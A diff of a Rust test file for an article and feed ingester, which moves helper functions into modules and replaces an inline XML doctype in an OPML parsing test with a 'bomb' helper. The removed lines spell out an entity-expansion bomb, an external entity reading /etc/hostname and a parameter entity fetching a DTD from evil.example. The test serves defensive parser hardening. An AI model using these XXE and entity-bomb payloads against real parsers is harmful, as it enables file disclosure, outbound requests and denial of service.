@@ -1,28 +1,21 @@
 //! Values made to deceive a reader: what cannot be true or must not be followed is left out, the rest is kept, and what
 //! was left out of lines and lists is told.
 
-use std::fmt::Write;
+mod bomb;
+mod told;
 
-use dateline_ingest::{Reading, read, sniff};
-use dateline_model::{Article, Capture};
+use bomb::bomb;
+use dateline_ingest::Reading;
+use dateline_model::Article;
+use told::{problems, read_as};
 
 const PARAGRAPH: &str =
     "<p>The harbour board voted on Tuesday to raise the fares on all four of its ferry routes by a quarter.</p>";
-
-fn read_as(source: &str, bytes: impl Into<Vec<u8>>) -> Reading {
-    let capture = Capture::of(bytes);
-    assert_eq!(sniff(&capture.bytes[..capture.bytes.len().min(64 * 1024)]).map(|found| found.name), Some(source));
-    read(&capture)
-}
 
 fn the_one(source: &str, bytes: impl Into<Vec<u8>>) -> (Article, Vec<String>) {
     let mut reading = read_as(source, bytes);
     assert_eq!(reading.articles.len(), 1, "{reading:?}");
     (reading.articles.remove(0), problems(&reading))
-}
-
-fn problems(reading: &Reading) -> Vec<String> {
-    reading.problems.iter().map(ToString::to_string).collect()
 }
 
 fn page(head: &str, inside: &str) -> String {
@@ -306,11 +299,7 @@ fn lists_and_lines_tell_which_address_was_left_out() {
 /// As in feeds, an entity is put in where it is plain words, never where it names another or a file.
 #[test]
 fn entities_of_lists_and_sitemaps_do_not_explode_and_open_no_file() {
-    let mut head = "<!DOCTYPE x [<!ENTITY a0 \"https://post.example/\">".to_owned();
-    for level in 1..10 {
-        let _ = write!(head, "<!ENTITY a{level} \"{}\">", format!("&a{};", level - 1).repeat(10));
-    }
-    head += "<!ENTITY file SYSTEM \"file:///etc/hostname\"><!ENTITY % far SYSTEM \"http://evil.example/x.dtd\">%far;]>";
+    let head = bomb("https://post.example/");
     let list = "<opml><outline text='&a9; &file;' xmlUrl='&a0;rss'/></opml>";
     let reading = read_as("opml", head.clone() + list);
     assert_eq!(reading.subscriptions[0].url, "https://post.example/rss");
